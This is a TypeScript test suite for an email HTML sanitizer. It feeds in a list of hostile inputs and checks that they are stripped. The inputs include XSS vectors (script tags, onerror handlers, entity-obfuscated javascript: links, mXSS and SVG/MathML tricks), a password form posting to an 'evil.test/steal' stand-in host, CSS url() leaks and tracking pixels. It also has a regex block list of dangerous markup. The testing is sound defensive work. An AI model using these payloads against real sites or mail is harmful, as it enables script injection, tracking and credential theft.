import t, { type Test } from 'tap';
import { sanitizeHtml } from '../../../server/mail/sanitize.js';

const strict = (html: string) => sanitizeHtml(html, { allowRemote: false });

/** Whatever the input, none of these may reach the iframe. */
const DANGEROUS = [
  /<script/i, /<style/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<input/i, /<button/i, /<meta/i, /<base/i,
  /<link/i, /<svg/i, /<math/i, /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /url\s*\(/i, /expression\s*\(/i,
  /position\s*:/i, /@import/i, /http-equiv/i, /evil/i,
];

function assertSafe(t: Test, html: string, label: string): void {
  for (const re of DANGEROUS) t.notMatch(html, re, `${label}: ${re}`);
}

const HOSTILE: Array<[string, string]> = [
  ['script', '<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil/x.js></SCRIPT>'],
  ['event handler', '<img src="cid:a@b" onerror="alert(1)"><p onclick=alert(1) onmouseover="x()">t</p><body onload=alert(1)>'],
  ['javascript link', '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href=" javascript:alert(1)">c</a>'],
  ['entity-split scheme', '<a href="java&#x09;script:alert(1)">a</a><a href="jav&#x0A;ascript:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">v</a>'],
  ['form', '<form action="http://evil.test/steal" method=post><input name=pw type=password><button>Login</button></form>'],
  ['iframe', '<iframe src="http://evil.test/"></iframe><frameset><frame src="http://evil.test/"></frameset>'],
  ['object/embed', '<object data="http://evil.test/x.swf"></object><embed src="http://evil.test/x.swf">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.test/">'],
  ['base', '<base href="http://evil.test/"><a href="x">rel</a>'],
  ['link', '<link rel="stylesheet" href="http://evil.test/x.css">'],
  ['style element', '<style>@import url(//evil.test/x.css); input[value^=a]{background:url(http://evil.test/a)}</style><p>x</p>'],
  ['style attribute', '<p style="background:url(http://evil.test/b.png); color: red">x</p>'],
  ['style obfuscation', '<p style="background:u\\72l(http://evil.test/); width: expression(alert(1)); behavior: url(x.htc)">x</p>'],
  ['overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">fake login</div>'],
  ['image-set', '<p style="background-image: image-set(\'http://evil.test/i.png\' 1x)">x</p>'],
  ['svg', '<svg onload="alert(1)"><image href="http://evil.test/p.png"/><a xlink:href="javascript:alert(1)">s</a></svg>'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['data html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'],
  ['protocol-relative', '<a href="//evil.test/x">p</a>'],
  ['comment trick', '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>ok</p>'],
];

t.test('nothing dangerous survives', async (t) => {
  for (const [label, html] of HOSTILE) assertSafe(t, strict(html).html, label);
});

t.test('text survives, markup it carried does not', async (t) => {
  t.equal(strict('<p>hi</p><script>alert(1)</script>').html, '<p>hi</p>');
  t.equal(strict('<style>p{color:red}</style><p>x</p>').html, '<p>x</p>', 'CSS text is not shown');
  t.match(strict('<form><input value=a><button>Login</button></form>').html, /Login/);
  t.equal(strict('<p style="color: red; position: fixed; font-size: 12px">x</p>').html, '<p style="color:red;font-size:12px">x</p>');
  t.equal(strict('<b>bold</b> <i>it</i> <table><tr><td colspan="2">c</td></tr></table>').html, '<b>bold</b> <i>it</i> <table><tr><td colspan="2">c</td></tr></table>');
});

t.test('links open outside, without referrer or opener', async (t) => {
  const { html } = strict('<a href="https://example.org/a?b=1">x</a><a href="mailto:bob@example.org">m</a>');
  t.match(html, /<a href="https:\/\/example\.org\/a\?b=1" rel="noopener noreferrer" target="_blank">/);
  t.match(html, /<a href="mailto:bob@example\.org" rel="noopener noreferrer" target="_blank">/);
  const bad = strict('<a href="java&#x09;script:alert(1)" target="_self" rel="opener">x</a>').html;
  t.notMatch(bad, /href|_self|"opener"/, 'hostile href dropped');
  t.match(bad, /rel="noopener noreferrer"/, 'rel forced');
  t.match(bad, /target="_blank"/, 'target forced');
  t.notMatch(strict('<a href="/api/v1/logout">x</a>').html, /href/, 'relative links would hit our own origin');
});

t.test('remote images are removed and counted', async (t) => {
  const tracker = strict('<p>Hello</p><img src="http://tracker.test/1x1.gif" width=1 height=1><img src="https://cdn.test/logo.png" alt="logo">');
  t.equal(tracker.html, '<p>Hello</p>');
  t.equal(tracker.blockedRemote, 2);
  const srcset = strict('<img srcset="http://a.test/1.png 1x, http://a.test/2.png 2x">');
  t.equal(srcset.html, '');
  t.equal(srcset.blockedRemote, 1);
  const bg = strict('<table background="http://bg.test/b.png"><tr><td background="https://bg.test/c.png">c</td></tr></table>');
  t.equal(bg.html, '<table><tr><td>c</td></tr></table>');
  t.equal(bg.blockedRemote, 2);
  const css = strict('<div style="background-image:url(\'https://bg.test/d.png\')">d</div>');
  t.equal(css.html, '<div>d</div>');
  t.equal(css.blockedRemote, 1);
  t.equal(strict('<img src="//cdn.test/x.png">').blockedRemote, 1, 'protocol-relative is remote');
  t.equal(strict('<img src="relative/x.png">').blockedRemote, 0, 'relative: dropped, not counted');
  t.equal(strict('<img src="relative/x.png">').html, '');
});

t.test('inline images are kept', async (t) => {
  const png = 'data:image/png;base64,iVBORw0KGgo=';
  const res = strict(`<img src="cid:part1@example.org" alt="a"><img src="${png}"><img src="data:image/svg+xml;base64,PHN2Zz4=">` +
    '<img src="data:text/html,<script>alert(1)</script>">');
  t.equal(res.html, `<img src="cid:part1@example.org" alt="a" /><img src="${png}" />`);
  t.equal(res.blockedRemote, 0);
});

t.test('allowRemote keeps http(s) images only', async (t) => {
  const res = sanitizeHtml('<img src="https://cdn.test/a.png"><img src="http://cdn.test/b.png"><img src="ftp://x.test/c.png">' +
    '<img srcset="https://a.test/1.png 1x"><img src="javascript:alert(1)"><td background="https://bg.test/c.png">c</td>', { allowRemote: true });
  t.match(res.html, /src="https:\/\/cdn\.test\/a\.png"/);
  t.match(res.html, /src="http:\/\/cdn\.test\/b\.png"/);
  t.match(res.html, /srcset="https:\/\/a\.test\/1\.png 1x"/);
  t.notMatch(res.html, /ftp:|javascript:/);
  t.equal(res.blockedRemote, 0);
  t.notMatch(sanitizeHtml('<p style="background:url(https://x.test/y.png)">p</p>', { allowRemote: true }).html, /url/,
    'CSS url() stays out even then');
});

t.test('counts do not leak between calls', async (t) => {
  strict('<img src="http://a.test/x.gif">');
  t.equal(strict('<p>clean</p>').blockedRemote, 0);
});
